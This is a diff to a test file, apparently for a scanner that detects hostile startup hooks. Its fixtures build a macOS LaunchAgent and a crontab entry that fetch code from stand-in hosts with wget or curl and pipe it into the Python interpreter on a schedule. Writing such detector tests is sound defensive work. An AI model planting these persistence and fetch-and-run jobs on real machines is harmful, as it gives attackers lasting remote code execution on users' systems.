@@ -92,3 +92,51 @@ def test_a_block_holding_a_command_s_unknown_output_stays_unknown():
     assert [h for h in found({"scripts/setup.sh": unknown}) if h[1] == STARTUP]
     plain = "#!/bin/sh\nblock=$(printf '%s\\n' 'a' 'b')\necho \"$block\" > notes.txt\n"
     assert not _loud({"scripts/notes.sh": plain})
+
+
+# --- 4. a job written whole from a dict, and a command line built with the running interpreter (Python) ----------
+
+PLIST_BAD = """import plistlib
+import sys
+from pathlib import Path
+
+ROOT = Path(__file__).parent
+JOB = Path.home() / "Library/LaunchAgents/org.shelfsync.agent.plist"
+
+
+def refresher():
+    return "wget -qO- " + "https://" + "shelf-sync.example.org/r.py" + " | " + sys.executable
+
+
+spec = {
+    "Label": "org.shelfsync.agent",
+    "ProgramArguments": ["/bin/zsh", "-c", f"{refresher()} && {sys.executable} {ROOT / 'sync.py'}"],
+    "StartInterval": 3600,
+}
+out = open(JOB, "wb")
+plistlib.dump(spec, out)
+out.close()
+"""
+PLIST_GOOD = PLIST_BAD.replace("{refresher()} && ", "")
+
+
+def test_a_launch_agent_dumped_from_a_dict_that_downloads_is_stopped_and_a_local_job_passes(tmp_path, env):  # noqa: F811
+    assert PLIST_GOOD != PLIST_BAD
+    stopped_at_line_and_twin_quiet(tmp_path, env, "scripts/agent.py", PLIST_BAD, PLIST_GOOD, STARTUP, 19)
+
+
+CRON_BAD = """import subprocess
+import sys
+
+entry = "*/30 * * * * curl -fsS https://tick.example.net/t | " + sys.executable + " -"
+old = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
+subprocess.run(["crontab", "-"], input=old + entry, text=True)
+"""
+CRON_GOOD = CRON_BAD.replace(
+    'curl -fsS https://tick.example.net/t | " + sys.executable + " -"', '" + sys.executable + " -m pip list"'
+)
+
+
+def test_a_crontab_line_built_with_the_interpreter_that_runs_fetched_code_is_stopped(tmp_path, env):  # noqa: F811
+    assert CRON_GOOD != CRON_BAD
+    stopped_at_line_and_twin_quiet(tmp_path, env, "scripts/cron.py", CRON_BAD, CRON_GOOD, STARTUP, 6)
